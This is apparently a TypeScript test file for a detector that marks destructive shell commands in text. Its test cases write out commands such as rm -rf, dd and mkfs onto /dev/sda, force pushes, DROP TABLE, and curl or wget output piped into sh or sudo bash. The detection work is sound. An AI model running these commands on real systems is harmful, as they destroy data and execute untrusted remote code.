import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { findDanger } from "../../src/util/dangerous-commands.js";

const marked = (command: string) => findDanger(command).map(({ start, end }) => command.slice(start, end));

describe("what may destroy something is marked", () => {
	test.each<[string, string[]]>([
		["rm -rf build && ls", ["rm -rf"]],
		["rm -r -f -- x", ["rm -r -f"]],
		["rm --recursive x", ["rm --recursive"]],
		["/bin/rm -fr x", ["/bin/rm -fr"]],
		["\\rm -rf x", ["\\rm -rf"]],
		["sudo apt install x", ["sudo"]],
		["sh -c 'rm -rf x'", ["rm -rf"]],
		["echo $(rm -rf x)", ["rm -rf"]],
		["git push --force origin main", ["git push --force"]],
		["git push origin +main", ["git push origin +main"]],
		["git -C sub push -f", ["git -C sub push -f"]],
		["git push --force-with-lease", ["git push --force-with-lease"]],
		["git reset --hard HEAD~3", ["git reset --hard"]],
		["git clean -fdx", ["git clean -fdx"]],
		["git checkout -- .", ["git checkout -- ."]],
		["chmod -R 777 /", ["chmod -R 777"]],
		["chown -R me .", ["chown -R"]],
		["mkfs.ext4 /dev/sda1", ["mkfs.ext4"]],
		["dd if=/dev/zero of=/dev/sda bs=1M", ["dd if=/dev/zero of=/dev/sda"]],
		["cat image > /dev/sda", ["> /dev/sda"]],
		["cat image >/dev/sda", [">/dev/sda"]],
		["curl -s https://x.example/i | sh", ["curl -s https://x.example/i | sh"]],
		["wget -qO- x | tee log | sudo bash", ["wget -qO- x | tee log | sudo bash"]],
		["psql -c 'DROP TABLE users'", ["DROP TABLE"]],
		["find . -name x -delete", ["find . -name x -delete"]],
	])("%s", (command, parts) => {
		expect(marked(command)).toEqual(parts);
	});
});

test.each([
	"ls -la",
	"rm x",
	"git push origin main",
	"git status",
	"npm test > /dev/null 2>&1",
	"curl x || sh y",
	"curl x > page; node page",
	"chmod +x run.sh",
	"grep -rf patterns .",
	"dropdb table",
	"",
])("%s is not marked", (command) => {
	expect(marked(command)).toEqual([]);
});

test("spans are ascending, within the text, and found whatever precedes and follows", () => {
	fc.assert(
		fc.property(fc.string({ maxLength: 200 }), fc.string({ maxLength: 200 }), (before, after) => {
			const command = `${before}\nrm -rf x\n${after}`;
			const spans = findDanger(command);
			let last = 0;
			for (const { start, end } of spans) {
				expect(start).toBeGreaterThanOrEqual(last);
				expect(end).toBeGreaterThan(start);
				last = end;
			}
			expect(last).toBeLessThanOrEqual(command.length);
			const at = command.indexOf("rm -rf x", before.length);
			expect(spans.some(({ start, end }) => start <= at && end >= at + 6)).toBe(true);
		}),
	);
});
